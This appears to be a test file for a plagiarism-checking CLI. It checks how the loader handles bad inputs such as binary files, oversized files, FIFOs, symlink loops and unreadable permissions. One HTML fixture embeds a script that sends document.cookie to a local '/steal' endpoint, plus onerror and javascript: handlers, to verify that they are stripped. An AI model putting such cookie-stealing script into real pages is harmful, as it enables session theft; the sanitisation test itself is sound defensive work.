// Bad files, made at test time in a temp folder (no committed binaries): binary data, a 50 MB file,
// unreadable permissions, a FIFO and a device, symlink loops, invalid front matter, hostile HTML,
// files deleted or changed while the set is being read. Each is a clear error naming the file; the
// rest of the work still completes. CLI: a bad article is exit 2, a bad reference a warning.
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, closeSync, existsSync, mkdirSync, mkdtempSync, openSync, rmSync, symlinkSync, truncateSync, writeFileSync, ftruncateSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { openIndex } from '../../../src/node/open-index';
import { readArticle } from '../../../src/node/articles';
import { loadReferences } from '../../../src/node/references';
import { BIN, buildCli, copydesk } from '../cli/helpers';

const GOOD = 'The ferry union said on Friday that talks on the winter timetable would resume next week after the strike ended.\n';
const ARTICLE = 'Crews were back at work on Saturday. The ferry union said on Friday that talks on the winter timetable would resume next week after the strike ended.\n';
const MB = 1024 * 1024;

interface JsonReport {
  findings: { rule: string; source?: { id: string } }[];
  errors: { path: string; message: string; severity: string }[];
  document: { path: string };
}

const hasMkfifo = spawnSync('mkfifo', ['--version']).status === 0;

/** A reference folder with every kind of bad file next to one good one. */
function badReferenceFolder(root: string): string {
  const refs = path.join(root, 'refs');
  mkdirSync(path.join(refs, 'loop', 'inner'), { recursive: true });
  writeFileSync(path.join(refs, 'wire.txt'), GOOD);
  // binary: a PNG header and random bytes, named .txt
  const bin = Buffer.alloc(4096);
  for (let i = 0; i < bin.length; i++) bin[i] = (i * 7919 + 13) % 256;
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(bin);
  writeFileSync(path.join(refs, 'photo.txt'), bin);
  // 50 MB (sparse: zeros, instant to make)
  const big = openSync(path.join(refs, 'huge.txt'), 'w');
  ftruncateSync(big, 50 * MB);
  closeSync(big);
  // invalid front matter: a warning, the body still used
  writeFileSync(path.join(refs, 'release.md'), '---\ntitle: "unterminated\noutlet: [a, b\n---\nThe harbour board said the northern slipway would close for urgent repairs before winter.\n');
  // HTML with scripts, handlers, javascript: links and a beacon image
  writeFileSync(
    path.join(refs, 'page.html'),
    '<!doctype html><html><head><title>Slipway closes</title><script>fetch("http://127.0.0.1:9/steal?c="+document.cookie)</script></head>' +
      '<body><article><h1>Slipway closes</h1><p>The harbour master said the slipway would shut for repairs on Monday morning, crews were told.</p>' +
      '<p><img src="http://127.0.0.1:9/beacon.png" onerror="alert(1)"><a href="javascript:alert(2)">Read more about the council vote on the harbour budget.</a></p>' +
      '<script>document.write("INJECTED_BY_SCRIPT")</script></article></body></html>',
  );
  // symlink loop (a folder linking to its ancestor) and a link to itself
  symlinkSync(path.join(refs, 'loop'), path.join(refs, 'loop', 'inner', 'back'));
  symlinkSync(path.join(refs, 'self.txt'), path.join(refs, 'self.txt'));
  // dangling link with a reference extension
  symlinkSync(path.join(refs, 'gone.txt'), path.join(refs, 'dangling.txt'));
  writeFileSync(path.join(refs, 'empty.md'), '---\ntitle: Nothing\n---\n\n');
  return refs;
}

describe('robustness: bad files', function () {
  this.timeout(180_000);
  let dir: string;
  let savedCache: string | undefined;
  before(async () => {
    await buildCli();
    savedCache = process.env.COPYDESK_CACHE;
    process.env.COPYDESK_CACHE = 'off';
  });
  after(() => {
    if (savedCache === undefined) delete process.env.COPYDESK_CACHE;
    else process.env.COPYDESK_CACHE = savedCache;
  });
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'copydesk-bad-'));
  });
  afterEach(() => {
    spawnSync('chmod', ['-R', 'u+rwX', dir]);
    rmSync(dir, { recursive: true, force: true });
  });

  it('a folder of bad references: each bad file named, the good ones loaded (loader)', async () => {
    const refs = badReferenceFolder(dir);
    const { docs, errors } = await loadReferences([refs]);
    assert.deepEqual(docs.map((d) => d.id).sort(), ['page.html', 'release.md', 'wire.txt']);
    const byFile = new Map(errors.map((e) => [path.basename(e.path), e]));
    assert.equal(byFile.get('photo.txt')?.message, 'binary file');
    assert.match(byFile.get('huge.txt')!.message, /file too large \(50\.0 MB; the limit is 20\.0 MB\)/);
    assert.match(byFile.get('release.md')!.message, /front matter/);
    assert.equal(byFile.get('release.md')!.severity, 'warning');
    assert.match(byFile.get('back')!.message, /symbolic link cycle/);
    assert.match(byFile.get('self.txt')!.message, /symlink loop/);
    assert.equal(byFile.get('dangling.txt')?.message, 'no such file or directory');
    assert.match(byFile.get('empty.md')!.message, /empty file/);
    const page = docs.find((d) => d.id === 'page.html')!;
    assert.match(page.text, /harbour master said the slipway would shut/);
    assert.ok(!/INJECTED_BY_SCRIPT|document\.cookie|fetch\(|javascript:|onerror|<script/i.test(page.text), page.text);
    assert.equal(docs.find((d) => d.id === 'release.md')!.text, 'The harbour board said the northern slipway would close for urgent repairs before winter.\n');
  });

  it('the same folder through the CLI: warnings name every bad reference, the check still runs (exit 1, not 2)', () => {
    const refs = badReferenceFolder(dir);
    writeFileSync(path.join(dir, 'article.txt'), ARTICLE);
    const r = copydesk(['check', 'article.txt', '--refs', refs, '--no-cache', '--format', 'json'], { cwd: dir });
    assert.equal(r.status, 1, r.stderr);
    for (const f of ['photo.txt: binary file', 'huge.txt: file too large', 'release.md: invalid front matter', 'self.txt: too many levels', 'dangling.txt: no such file']) {
      assert.ok(r.stderr.includes(f), `stderr names ${f}:\n${r.stderr}`);
    }
    const rep = JSON.parse(r.stdout) as JsonReport;
    assert.ok(rep.findings.some((f) => f.rule === 'copied-passage' && f.source?.id === 'wire.txt'), 'the good reference still matched');
    assert.ok(rep.errors.length >= 6);
  });

  it('a 50 MB article is refused by name (exit 2) and the other article is still checked; raised limit: zeros are a binary file', () => {
    writeFileSync(path.join(dir, 'wire.txt'), GOOD);
    writeFileSync(path.join(dir, 'ok.txt'), ARTICLE);
    truncateSync(path.join(dir, 'ok.txt'), Buffer.byteLength(ARTICLE));
    const fd = openSync(path.join(dir, 'huge.md'), 'w');
    ftruncateSync(fd, 50 * MB);
    closeSync(fd);
    const r = copydesk(['check', 'huge.md', 'ok.txt', '--refs', 'wire.txt', '--no-cache', '--format', 'json'], { cwd: dir });
    assert.equal(r.status, 2);
    assert.match(r.stderr, /huge\.md: file too large \(50\.0 MB; the limit is 20\.0 MB\)/);
    const arr = JSON.parse(r.stdout) as JsonReport[];
    assert.deepEqual(arr.map((a) => a.document.path), ['huge.md', 'ok.txt']);
    assert.ok(arr[1]!.findings.some((f) => f.rule === 'copied-passage'), 'ok.txt still checked');
    const raised = copydesk(['check', 'huge.md', '--refs', 'wire.txt', '--no-cache', '--max-file-size', '60'], { cwd: dir });
    assert.equal(raised.status, 2);
    assert.match(raised.stderr, /huge\.md: binary file/);
  });

  it('a FIFO or a device is never read (it would block or never end): named error, the rest done', async function () {
    writeFileSync(path.join(dir, 'wire.txt'), GOOD);
    writeFileSync(path.join(dir, 'ok.txt'), ARTICLE);
    const devices = ['/dev/zero'];
    if (hasMkfifo) {
      spawnSync('mkfifo', [path.join(dir, 'pipe.txt')]);
      devices.push(path.join(dir, 'pipe.txt'));
    }
    for (const dev of devices) {
      const { docs, errors } = await loadReferences([dev, path.join(dir, 'wire.txt')]);
      assert.deepEqual(docs.map((d) => path.basename(d.path)), ['wire.txt']);
      assert.deepEqual(errors.map((e) => [e.path, e.message]), [[dev, 'not a regular file (a pipe, socket or device): not read']]);
      const a = await readArticle(dev);
      assert.deepEqual(a, { ok: false, path: dev, message: 'not a regular file (a pipe, socket or device): not read' });
    }
    // through the CLI (with a timeout: before the fix this hung for ever)
    const r = copydesk(['check', devices.at(-1)!, 'ok.txt', '--refs', 'wire.txt', '/dev/zero', '--no-cache', '--format', 'json'], { cwd: dir });
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /warning: \/dev\/zero: not a regular file/);
    assert.ok((JSON.parse(r.stdout) as JsonReport[])[1]!.findings.some((f) => f.rule === 'copied-passage'));
  });

  it('unreadable files (permission denied), also when the tests run as root', function () {
    writeFileSync(path.join(dir, 'wire.txt'), GOOD);
    writeFileSync(path.join(dir, 'locked-ref.txt'), 'Nobody may read this reference about the harbour and the ferry union.\n');
    writeFileSync(path.join(dir, 'locked.md'), ARTICLE);
    writeFileSync(path.join(dir, 'ok.txt'), ARTICLE);
    chmodSync(path.join(dir, 'locked-ref.txt'), 0o000);
    chmodSync(path.join(dir, 'locked.md'), 0o000);
    chmodSync(dir, 0o755);
    const args = ['check', 'locked.md', 'ok.txt', '--refs', 'wire.txt', 'locked-ref.txt', '--no-cache', '--format', 'json'];
    let r;
    if (process.getuid?.() === 0) {
      // root reads anything: run the CLI as an unprivileged user (nobody), for whom 000 is unreadable
      const s = spawnSync(process.execPath, [BIN, ...args], { cwd: dir, encoding: 'utf8', uid: 65534, gid: 65534, env: { PATH: process.env.PATH, HOME: dir }, timeout: 60_000 });
      if (s.error) this.skip(); // cannot switch user here: the fsMessage mapping is tested in test/unit/node
      r = { status: s.status, stdout: s.stdout, stderr: s.stderr };
    } else {
      r = copydesk(args, { cwd: dir });
    }
    assert.equal(r.status, 2, r.stderr);
    assert.match(r.stderr, /warning: locked-ref\.txt: permission denied \(reference skipped\)/);
    assert.match(r.stderr, /error: locked\.md: permission denied/);
    const arr = JSON.parse(r.stdout) as JsonReport[];
    assert.ok(arr[0]!.errors.some((e) => e.path === 'locked.md' && e.message === 'permission denied' && e.severity === 'error'), JSON.stringify(arr[0]!.errors));
    assert.ok(arr[1]!.findings.some((f) => f.rule === 'copied-passage' && f.source?.id === 'wire.txt'), 'ok.txt still checked against wire.txt');
  });

  for (const cache of [false, true]) {
    it(`files deleted, made binary or replaced by a folder while the set is read: named, the rest loaded (${cache ? 'persisted cache' : 'no cache'})`, async () => {
      const refs = path.join(dir, 'refs');
      mkdirSync(refs);
      for (let k = 0; k < 6; k++) writeFileSync(path.join(refs, `s${k}.txt`), `Story ${k}: ${GOOD}`);
      let fired = false;
      const { docs, errors } = await openIndex([refs], {
        concurrency: 1,
        cacheDir: cache ? path.join(dir, 'cache') : false,
        onProgress: (p) => {
          // after the first file is read, the others change under the loader
          if (p.phase === 'read' && p.done === 1 && !fired) {
            fired = true;
            rmSync(path.join(refs, 's3.txt'));
            writeFileSync(path.join(refs, 's4.txt'), Buffer.alloc(2048, 0));
            rmSync(path.join(refs, 's5.txt'));
            mkdirSync(path.join(refs, 's5.txt'));
          }
        },
      });
      assert.ok(fired, 'the hook ran during reading');
      assert.deepEqual(docs.map((d) => d.id), ['s0.txt', 's1.txt', 's2.txt']);
      assert.deepEqual(
        errors.map((e) => [path.basename(e.path), e.message]),
        [
          ['s3.txt', 'no such file or directory'],
          ['s4.txt', 'binary file'],
          ['s5.txt', 'is a directory'],
        ],
      );
      if (cache) {
        // the next run sees the folder as it is now and does not trust what was half-read
        writeFileSync(path.join(refs, 's4.txt'), `Story 4 again: ${GOOD}`);
        const again = await openIndex([refs], { cacheDir: path.join(dir, 'cache') });
        assert.deepEqual(again.docs.map((d) => d.id), ['s0.txt', 's1.txt', 's2.txt', 's4.txt']);
        assert.equal(again.docs.find((d) => d.id === 's4.txt')!.text, `Story 4 again: ${GOOD}`);
      }
    });
  }

  it('invalid front matter and half-written drafts as articles are still checked (exit 1, not 2)', () => {
    writeFileSync(path.join(dir, 'wire.txt'), GOOD);
    writeFileSync(path.join(dir, 'draft.md'), '---\ntitle: [unclosed\n---\n' + ARTICLE + '\n"An unclosed quote, and a [link(\n```\nunclosed fence');
    const r = copydesk(['check', 'draft.md', '--refs', 'wire.txt', '--no-cache', '--format', 'json'], { cwd: dir });
    assert.equal(r.status, 1, r.stderr);
    const rep = JSON.parse(r.stdout) as JsonReport;
    assert.ok(rep.findings.some((f) => f.rule === 'copied-passage'));
    assert.ok(existsSync(path.join(dir, 'draft.md')));
  });
});
